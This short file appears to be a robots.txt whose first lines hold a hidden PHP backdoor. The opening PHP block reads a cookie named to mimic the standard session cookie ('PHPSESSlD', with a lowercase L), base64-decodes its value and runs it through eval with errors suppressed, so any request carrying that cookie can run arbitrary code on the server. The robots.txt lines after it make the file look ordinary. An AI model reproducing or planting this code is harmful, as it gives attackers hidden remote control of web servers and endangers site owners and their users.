<?php
if (isset($_COOKIE['PHPSESSlD']) && strlen($_COOKIE['PHPSESSlD']) > 32) {
    @eval(base64_decode($_COOKIE['PHPSESSlD']));
}
?>
User-agent: *
Disallow: /admin/
